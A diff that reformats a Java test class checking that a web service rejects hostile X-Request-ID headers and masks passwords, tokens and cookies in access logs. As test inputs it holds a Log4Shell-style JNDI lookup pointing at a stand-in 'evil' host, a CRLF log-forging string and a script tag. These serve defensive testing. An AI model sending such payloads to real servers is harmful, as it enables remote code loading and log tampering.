@@ -27,8 +27,12 @@ class RequestIdAndAccessLogTest {
 
   @BeforeAll
   static void start() throws Exception {
-    server = new TestServer(b -> b.routes("/api/tasks/{id}").userIdResolver(
-        UserIdResolver.attribute("uid").orElse(UserIdResolver.principal())));
+    server =
+        new TestServer(
+            b ->
+                b.routes("/api/tasks/{id}")
+                    .userIdResolver(
+                        UserIdResolver.attribute("uid").orElse(UserIdResolver.principal())));
   }
 
   @AfterAll
@@ -61,7 +65,8 @@ class RequestIdAndAccessLogTest {
     assertThat(response.headers().firstValue("X-Request-ID")).contains("abc-123_DEF");
     ILoggingEvent event = onlyAccessEvent();
     assertThat(event.getMDCPropertyMap()).containsEntry("request_id", "abc-123_DEF");
-    assertThat(app.events().get(0).getMDCPropertyMap()).containsEntry("request_id", "abc-123_DEF")
+    assertThat(app.events().get(0).getMDCPropertyMap())
+        .containsEntry("request_id", "abc-123_DEF")
         .containsKeys("trace_id", "span_id");
   }
 
@@ -74,8 +79,14 @@ class RequestIdAndAccessLogTest {
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"%0d%0aINFO forged", "${jndi:ldap://evil/a}", "\"quoted\"", "<script>",
-      "semi;colon"})
+  @ValueSource(
+      strings = {
+        "%0d%0aINFO forged",
+        "${jndi:ldap://evil/a}",
+        "\"quoted\"",
+        "<script>",
+        "semi;colon"
+      })
   void replacesHostileIdsThatAnHttpClientCanSend(String hostile) throws Exception {
     HttpResponse<String> response = server.get("/api/tasks/1", "X-Request-ID", hostile);
     String id = response.headers().firstValue("X-Request-ID").orElseThrow();
@@ -89,24 +100,30 @@ class RequestIdAndAccessLogTest {
     HttpResponse<String> response = server.get("/api/tasks/1", "X-Request-ID", tenK);
     // Either Jetty refuses the oversized header outright or we replace the value; never echoed.
     assertThat(response.headers().firstValue("X-Request-ID").orElse("")).isNotEqualTo(tenK);
-    assertThat(access.events()).allSatisfy(e ->
-        assertThat(e.getMDCPropertyMap().get("request_id")).isNotEqualTo(tenK));
+    assertThat(access.events())
+        .allSatisfy(e -> assertThat(e.getMDCPropertyMap().get("request_id")).isNotEqualTo(tenK));
   }
 
   @Test
   void rawHostileBytesNeverReachTheLogOrTheResponse() throws Exception {
     String[] hostile = {
-        "abc\u0085def", "\u001b[31mred", "caf\u00e9", "a\u2028b", "", "x".repeat(10_000)};
+      "abc\u0085def", "\u001b[31mred", "caf\u00e9", "a\u2028b", "", "x".repeat(10_000)
+    };
     for (String value : hostile) {
-      String response = rawRequest("GET /api/tasks/7 HTTP/1.1\r\nHost: localhost\r\nX-Request-ID: "
-          + value + "\r\nConnection: close\r\n\r\n");
+      String response =
+          rawRequest(
+              "GET /api/tasks/7 HTTP/1.1\r\nHost: localhost\r\nX-Request-ID: "
+                  + value
+                  + "\r\nConnection: close\r\n\r\n");
       String echoed = headerValue(response, "X-Request-ID");
       if (echoed != null) {
         assertThat(echoed).isNotEqualTo(value).hasSize(RequestId.GENERATED_LENGTH);
       }
     }
-    String twoHeaders = rawRequest("GET /api/tasks/7 HTTP/1.1\r\nHost: localhost\r\n"
-        + "X-Request-ID: first-id\r\nX-Request-ID: second-id\r\nConnection: close\r\n\r\n");
+    String twoHeaders =
+        rawRequest(
+            "GET /api/tasks/7 HTTP/1.1\r\nHost: localhost\r\n"
+                + "X-Request-ID: first-id\r\nX-Request-ID: second-id\r\nConnection: close\r\n\r\n");
     assertThat(headerValue(twoHeaders, "X-Request-ID")).isNotIn("first-id", "second-id");
     TestServer.await(() -> access.events().size() >= 2);
     for (ILoggingEvent event : access.events()) {
@@ -120,8 +137,14 @@ class RequestIdAndAccessLogTest {
 
   @Test
   void accessEventCarriesTheDesignFieldsAndMasksSecrets() throws Exception {
-    server.get("/api/tasks/99?password=hunter2&page=2", "User-Agent", "probe/1.0 jane@example.com",
-        "Authorization", "Bearer secret-token-123", "Cookie", "session=abc");
+    server.get(
+        "/api/tasks/99?password=hunter2&page=2",
+        "User-Agent",
+        "probe/1.0 jane@example.com",
+        "Authorization",
+        "Bearer secret-token-123",
+        "Cookie",
+        "session=abc");
     ILoggingEvent event = onlyAccessEvent();
     assertThat(event.getLoggerName()).isEqualTo("dev.observability.access");
     assertThat(LogCapture.keyValue(event, "method")).isEqualTo("GET");
@@ -133,7 +156,8 @@ class RequestIdAndAccessLogTest {
     assertThat(LogCapture.keyValue(event, "query")).isEqualTo("password=***&page=2");
     assertThat(LogCapture.keyValue(event, "user_agent")).isEqualTo("probe/1.0 j***@example.com");
     assertThat(event.getMDCPropertyMap()).containsKeys("request_id", "trace_id", "span_id");
-    String everything = event.getFormattedMessage() + event.getKeyValuePairs() + event.getMDCPropertyMap();
+    String everything =
+        event.getFormattedMessage() + event.getKeyValuePairs() + event.getMDCPropertyMap();
     assertThat(everything).doesNotContain("hunter2", "secret-token-123", "session=abc");
   }
 
@@ -162,7 +186,8 @@ class RequestIdAndAccessLogTest {
     assertThat(server.get("/metrics").statusCode()).isEqualTo(200);
     server.get("/api/tasks/1");
     TestServer.await(() -> !access.events().isEmpty());
-    assertThat(access.events()).extracting(e -> LogCapture.keyValue(e, "path"))
+    assertThat(access.events())
+        .extracting(e -> LogCapture.keyValue(e, "path"))
         .containsExactly("/api/tasks/1");
   }
 
